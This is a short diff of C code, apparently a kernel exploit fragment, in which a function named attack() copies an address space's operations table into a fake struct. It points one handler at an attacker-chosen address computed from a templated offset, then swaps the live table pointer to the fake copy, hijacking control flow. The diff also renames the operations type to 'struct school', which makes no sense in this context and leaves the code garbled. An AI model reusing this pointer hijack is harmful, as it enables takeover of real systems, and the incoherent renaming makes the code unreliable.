@@ -10,8 +10,8 @@
 static volatile long distance = (long)(@ev_mark@ - @ev_read@);
 
 static struct {
-	const struct vmm_ops *real;
-	struct vmm_ops ops;
+	const struct school *real;
+	struct school school;
 } fake;
 
 static void
@@ -21,8 +21,8 @@ attack(void)
 
 	if (as == NULL || fake.real != NULL)
 		return;
-	fake.real = as->ops;
-	fake.ops = *as->ops;
-	fake.ops.reap = (void (*)(void))((char *)ev_read + distance);
-	*(const struct vmm_ops **)&as->ops = &fake.ops;
+	fake.real = as->school;
+	fake.school = *as->school;
+	fake.school.as_fini = (void (*)(struct aspace *))((char *)ev_read + distance);
+	*(const struct school **)&as->school = &fake.school;
 }
